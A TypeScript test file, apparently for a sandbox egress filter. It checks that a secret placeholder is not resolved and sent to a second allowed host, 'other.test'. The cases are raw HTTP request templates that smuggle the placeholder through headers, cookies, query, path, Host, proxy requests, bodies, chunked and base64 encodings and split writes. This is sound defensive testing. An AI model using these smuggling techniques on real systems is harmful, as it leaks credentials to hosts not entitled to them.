import {
  allowedName,
  answer,
  gone,
  other4,
  pieces,
  server4,
  server6,
  tokenOf,
  zone,
  type EgressCase,
  type EgressRoom,
  type Piece,
} from '../case.ts'

/** Another allowed name: it may be talked to, and may get nothing of the secret. */
const elsewhere = 'other.test'
const it = (shape = ''): { variable: string } => ({ variable: `T${shape}` })

interface Said {
  readonly id: string
  readonly title: string
  readonly say: readonly Piece[]
  /** The head may go before the body is known. */
  readonly rest?: true
  readonly to?: { readonly host: string; readonly port: number }
}

const line = (id: string, method = 'GET'): string => `${method} /${tokenOf(id)} HTTP/1.1\r\nHost: ${elsewhere}\r\n`
const post = (length: string): string => `POST /x HTTP/1.1\r\nHost: ${elsewhere}\r\n${length}\r\n\r\n`
const said: readonly Said[] = [
  { id: 'in-header', title: 'in a header', say: [line('in-header'), 'Authorization: Bearer ', it(), '\r\n\r\n'] },
  {
    id: 'in-own-header',
    title: 'in a header of its own name',
    say: [line('in-own-header'), 'X-A: ', it(), '\r\n\r\n'],
  },
  { id: 'in-name', title: 'in the name of a header', say: [line('in-name'), 'X-', it(), ': 1\r\n\r\n'] },
  { id: 'in-cookie', title: 'in a cookie', say: [line('in-cookie'), 'Cookie: a=1; b=', it(), '\r\n\r\n'] },
  {
    id: 'in-basic',
    title: 'in a header in base64',
    say: [line('in-basic'), 'Authorization: Basic ', it('/b64'), '\r\n\r\n'],
  },
  {
    id: 'in-query',
    title: 'in a query',
    say: [`GET /${tokenOf('in-query')}?a=`, it(), ` HTTP/1.1\r\nHost: ${elsewhere}\r\n\r\n`],
  },
  {
    id: 'in-percent',
    title: 'in a query, each byte in percent',
    say: [`GET /${tokenOf('in-percent')}?a=`, it('/percent'), ` HTTP/1.1\r\nHost: ${elsewhere}\r\n\r\n`],
  },
  {
    id: 'in-path',
    title: 'in a path',
    say: [`GET /${tokenOf('in-path')}/`, it(), ` HTTP/1.1\r\nHost: ${elsewhere}\r\n\r\n`],
  },
  {
    id: 'in-pieces',
    title: 'in a header in two pieces',
    say: [line('in-pieces'), 'X-A: ', it('/first'), gone, it('/second'), '\r\n\r\n'],
  },
  {
    id: 'in-host',
    title: 'in the Host',
    say: [`GET /${tokenOf('in-host')} HTTP/1.1\r\nHost: `, it(), `.${elsewhere}\r\n\r\n`],
  },
  {
    id: 'in-proxy',
    title: 'in a request to the proxy',
    to: { host: '198.18.0.2', port: 3128 },
    say: [`GET http://${elsewhere}/${tokenOf('in-proxy')} HTTP/1.1\r\nHost: ${elsewhere}\r\nX-A: `, it(), '\r\n\r\n'],
  },
  {
    id: 'in-body',
    title: 'in a body',
    say: [post('Content-Length: 400'), it(), tokenOf('in-body'), { text: 'x', times: 400 }],
    rest: true,
  },
  {
    id: 'in-chunks',
    title: 'in a body of one chunk',
    say: [post('Transfer-Encoding: chunked'), '200\r\n', it(), tokenOf('in-chunks'), { text: 'x', times: 600 }],
    rest: true,
  },
  {
    id: 'in-body-64',
    title: 'in a body in base64',
    say: [post('Content-Length: 400'), it('/b64'), tokenOf('in-body-64'), { text: 'x', times: 400 }],
    rest: true,
  },
  {
    id: 'in-second',
    title: 'in a second request',
    say: [`GET / HTTP/1.1\r\nHost: ${elsewhere}\r\n\r\n`, answer, line('in-second'), 'X-A: ', it(), '\r\n\r\n'],
    rest: true,
  },
  {
    id: 'in-body-pieces',
    title: 'in a body in two writes',
    say: [
      post('Content-Length: 400'),
      it('/first'),
      gone,
      it('/second'),
      tokenOf('in-body-pieces'),
      { text: 'x', times: 400 },
    ],
    rest: true,
  },
]

const cases = said.map(({ id, title, say, rest, to }): EgressCase => ({
  title: `the placeholder of a secret ${title} does not go to another host`,
  id,
  attack: 'egress-say',
  args: { ...(to ?? { name: elsewhere, port: 80 }), pieces: pieces(...say) },
  ...(rest ? { leaves: 'rest' as const } : {}),
}))

const served: EgressCase = {
  title: 'the secret is put into a request to its own host',
  id: 'secret-served',
  attack: 'egress-say',
  args: {
    name: allowedName,
    port: 80,
    pieces: pieces(
      `GET /${tokenOf('secret-served')} HTTP/1.1\r\nHost: ${allowedName}\r\nAuthorization: Bearer `,
      it(),
      '\r\n\r\n',
    ),
  },
  leaves: 'all',
  control: { unproven: 'it is no attack' },
}

/** A secret of one host, and another host that may be talked to. */
export const placeholderRoom: EgressRoom = {
  name: 'placeholders of secrets',
  allow: [`${allowedName}:80`, `${elsewhere}:80`],
  secrets: {
    flags: [`T=env:GBX_SECRET@${allowedName}:80`],
    env: { GBX_SECRET: 'gbx-secret-3f9a51c07e', T: 'placeholder-of-the-control-run' },
  },
  zone,
  servers: [server4, server6, other4],
  ports: [80],
  names: [allowedName, elsewhere],
  cases: [served, ...cases],
}
